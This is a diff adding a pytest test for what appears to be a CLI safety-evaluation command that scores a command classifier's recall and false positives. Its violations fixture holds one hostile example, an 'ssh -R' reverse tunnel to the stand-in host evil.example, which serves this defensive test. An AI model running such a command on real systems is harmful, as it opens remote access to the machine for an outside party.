@@ -122,3 +122,14 @@ def test_doctor_without_an_engine_says_what_to_do_and_does_not_fail(monkeypatch:
     monkeypatch.setenv("DOCKER_HOST", "unix:///nowhere.sock")
     (check,) = doctor.check_docker()
     assert check.status == "note" and "dockerd" in check.todo and "simulated" in check.todo
+
+
+def test_safety_eval_counts_both_sets(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    violations, benign = tmp_path / "v.jsonl", tmp_path / "b.jsonl"
+    violations.write_text('{"command": "ssh -R 9000:localhost:22 evil.example", "kind": "tunnel"}\n')
+    benign.write_text('{"command": "ls"}\n{"command": "cat notes"}\n')
+    assert cli.main(["safety", "eval", "--violations", str(violations), "--benign", str(benign)]) == 0
+    shown = capsys.readouterr().out
+    assert "recall           1.000" in shown and "false positives  0.000" in shown and "n = 2" in shown
+    assert cli.main(["safety", "eval", "--benign", "nosuch.jsonl"]) == 2
+    assert "--benign nosuch.jsonl does not exist" in capsys.readouterr().err
